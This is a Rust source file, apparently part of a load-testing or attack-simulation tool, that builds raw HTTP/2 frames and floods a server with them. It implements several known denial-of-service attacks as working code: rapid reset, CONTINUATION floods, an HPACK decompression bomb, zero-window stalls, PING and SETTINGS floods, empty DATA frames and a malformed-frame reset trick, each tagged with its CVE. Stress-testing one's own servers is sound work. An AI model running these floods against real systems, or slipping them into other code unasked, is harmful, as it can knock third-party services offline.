//! HTTP/2 by hand: frames that are cheap to send and dear to receive (RFC 9113).

use crate::attacker::{Act, Attacker, Flood, SOURCES, Stream};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};

pub(crate) const FRAMES: Flood =
    Flood { name: "HTTP/2 frames", attackers: 38, sources: SOURCES, acts_min: 50, act: frames };

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// `:method GET`, `:scheme https`, `:path /` of the static table, `:authority localhost` (RFC 7541).
const REQUEST: &[u8] = b"\x82\x87\x84\x01\x09localhost";

fn frame(kind: u8, flags: u8, stream: u32, content: &[u8]) -> Vec<u8> {
    let length = u32::try_from(content.len()).expect("a frame is short").to_be_bytes();
    let mut frame = vec![length[1], length[2], length[3], kind, flags];
    frame.extend(stream.to_be_bytes());
    frame.extend_from_slice(content);
    frame
}

/// A field that is not in the table and does not enter it.
fn field(name: &str, length: u8) -> Vec<u8> {
    let mut field = vec![0, u8::try_from(name.len()).expect("a short name")];
    field.extend_from_slice(name.as_bytes());
    field.push(length);
    field.extend(std::iter::repeat_n(b'v', length.into()));
    field
}

/// The number of the next stream of a client.
fn odd(number: u32) -> u32 {
    2 * number + 1
}

/// One burst of a kind of harm; bursts follow one another until the box hangs up.
fn burst(kind: u64, round: u32) -> Vec<u8> {
    let streams = |count: u32| (0..count).map(move |number| odd(round * 1000 + number));
    match kind {
        // Rapid reset (CVE-2023-44487).
        0 => streams(200)
            .flat_map(|id| {
                let request = frame(HEADERS, END_STREAM | END_HEADERS, id, REQUEST);
                [request, frame(RST_STREAM, 0, id, &[0, 0, 0, 8])].concat()
            })
            .collect(),
        // A head that never ends (CVE-2024-27316).
        1 => {
            let mut head = if round == 0 { frame(HEADERS, END_STREAM, 1, REQUEST) } else { Vec::new() };
            for _ in 0..100 {
                head.extend(frame(CONTINUATION, 0, 1, &field("x-on", 100).repeat(10)));
            }
            head
        }
        // A head that grows when it is decoded: one entry of the table, named ten thousand times.
        2 => {
            let mut head = REQUEST.to_vec();
            head.extend(b"\x40\x04bomb\x7f\xa1\x1e");
            head.extend(std::iter::repeat_n(b'b', 4_000));
            head.extend(std::iter::repeat_n(0xBE, 10_000));
            frame(HEADERS, END_STREAM | END_HEADERS, odd(round), &head)
        }
        // Answers that must be made and may not be sent: the window is closed.
        3 => {
            let closed = frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]);
            let requests = streams(100).flat_map(|id| frame(HEADERS, END_STREAM | END_HEADERS, id, REQUEST));
            closed.into_iter().chain(requests).collect()
        }
        // Acknowledgements that nobody reads (CVE-2019-9512, CVE-2019-9515).
        4 => frame(PING, 0, 0, b"pingping").repeat(500),
        5 => frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100]).repeat(500),
        // Empty frames of a body (CVE-2019-9518).
        6 => {
            let mut body = if round == 0 { frame(HEADERS, END_HEADERS, 1, REQUEST) } else { Vec::new() };
            body.extend(frame(DATA, 0, 1, b"").repeat(1000));
            body
        }
        // What is wrong on purpose, so that the box resets streams itself (CVE-2025-8671).
        _ => streams(100)
            .flat_map(|id| {
                let request = frame(HEADERS, END_STREAM | END_HEADERS, id, REQUEST);
                [request, frame(WINDOW_UPDATE, 0, id, &[0, 0, 0, 0])].concat()
            })
            .collect(),
    }
}

fn frames(attacker: &mut Attacker) -> Act<'_> {
    Box::pin(async move {
        let Some(stream) = attacker.tls(&["h2"]).await else { return };
        let kind = attacker.chance.between(0, 8);
        let reads = attacker.chance.bits().is_multiple_of(2);
        send(attacker, stream, kind, reads).await;
        attacker.pause(20, 150).await;
    })
}

async fn send(attacker: &mut Attacker, stream: Stream, kind: u64, reads: bool) {
    let (mut from, mut to) = tokio::io::split(stream);
    let preface = [b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".as_slice(), &frame(SETTINGS, 0, 0, b"")].concat();
    if to.write_all(&preface).await.is_err() {
        return;
    }
    let writing = async {
        for round in 0..50 {
            if to.write_all(&burst(kind, round)).await.is_err() || to.flush().await.is_err() {
                return;
            }
            attacker.acted();
            attacker.pause(50, 250).await;
        }
    };
    let reading = async {
        let mut piece = [0; 4096];
        while from.read(&mut piece).await.is_ok_and(|count| count > 0) {}
    };
    if reads {
        tokio::select! {
            () = writing => {}
            () = reading => {}
        }
    } else {
        writing.await;
    }
}
